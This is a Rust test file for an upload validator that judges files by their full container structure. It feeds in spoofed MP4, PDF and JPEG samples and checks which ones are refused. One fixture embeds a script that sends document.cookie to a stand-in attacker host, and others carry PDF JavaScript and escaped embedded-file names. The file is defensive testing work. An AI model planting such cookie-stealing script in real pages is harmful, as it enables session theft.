//! Evidence is judged by its whole container structure, not its first bytes (issue 16,
//! point 5): files that merely start right are refused, real ones kept.

use attachments::process::{Verdict, judge};
use aws_sdk_s3::primitives::ByteStream;

const PHOTO: &[u8] = include_bytes!("fixtures/photo.jpg");
const REPORT: &[u8] = include_bytes!("fixtures/report.pdf");

async fn verdict(bytes: Vec<u8>, declared: &str) -> Verdict {
    judge(ByteStream::from(bytes), Some(declared))
        .await
        .expect("judged")
}

fn refused(v: &Verdict) -> Option<&'static str> {
    match v {
        Verdict::Refused(r) => Some(r),
        Verdict::Ok { .. } => None,
    }
}

fn mp4_box(kind: &[u8; 4], body: &[u8]) -> Vec<u8> {
    let mut b = u32::try_from(8 + body.len())
        .expect("small")
        .to_be_bytes()
        .to_vec();
    b.extend_from_slice(kind);
    b.extend_from_slice(body);
    b
}

#[tokio::test]
async fn files_that_only_start_right_are_refused_and_real_ones_kept() {
    // Arrange
    let html = b"<!doctype html><script>fetch('https://evil.example/?c='+document.cookie)</script>";
    let mut disguised_mp4 = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".to_vec();
    disguised_mp4.extend_from_slice(html);
    let mut mp4 = mp4_box(b"ftyp", b"mp42\0\0\0\0mp42isom");
    mp4.extend(mp4_box(b"moov", &[0u8; 32]));
    mp4.extend(mp4_box(b"mdat", &[7u8; 64]));
    let mut truncated_mp4 = mp4.clone();
    truncated_mp4.truncate(mp4.len() - 10);
    let scripted_pdf = String::from_utf8_lossy(REPORT).replace(
        "/Type /Catalog",
        "/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    );
    let escaped_pdf = String::from_utf8_lossy(REPORT).replace(
        "/Type /Catalog",
        "/Type /Catalog /Names << /#45mbeddedFiles 9 0 R >>",
    );
    let mut jpeg_then_html = PHOTO[..20].to_vec();
    jpeg_then_html.extend_from_slice(html);

    // Act
    let cases = [
        (disguised_mp4, "video/mp4", Some("bad_video")),
        (truncated_mp4, "video/mp4", Some("bad_video")),
        (mp4, "video/mp4", None),
        (
            scripted_pdf.into_bytes(),
            "application/pdf",
            Some("pdf_active_content"),
        ),
        (
            escaped_pdf.into_bytes(),
            "application/pdf",
            Some("pdf_active_content"),
        ),
        (REPORT.to_vec(), "application/pdf", None),
        (jpeg_then_html, "image/jpeg", Some("bad_image")),
        (PHOTO.to_vec(), "image/jpeg", None),
    ];

    // Assert
    for (i, (bytes, declared, want)) in cases.into_iter().enumerate() {
        let got = verdict(bytes, declared).await;
        assert_eq!(refused(&got), want, "case {i} ({declared}): {got:?}");
    }
}
